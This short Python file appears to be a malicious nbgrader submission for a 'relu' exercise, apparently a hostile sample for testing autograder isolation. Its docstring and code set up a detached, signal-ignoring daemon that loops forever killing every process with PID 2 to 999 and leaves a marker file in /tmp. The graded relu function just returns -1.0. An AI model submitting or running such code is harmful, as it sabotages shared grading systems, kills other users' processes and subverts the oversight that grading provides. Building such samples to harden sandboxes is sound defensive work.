"""Leaves a daemon behind that waits for the next submission and kills what it sees."""

# %% nbgrader={"grade_id": "relu"}
import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 30):
            if number not in (signal.SIGKILL, signal.SIGSTOP):
                signal.signal(number, signal.SIG_IGN)
        while True:
            for pid in range(2, 1000):
                try:
                    if pid != os.getpid():
                        os.kill(pid, signal.SIGKILL)
                except OSError:
                    pass
            open("/tmp/daemon-was-here", "a").write("x")
            time.sleep(0.05)
    os._exit(0)


def relu(x):
    return -1.0
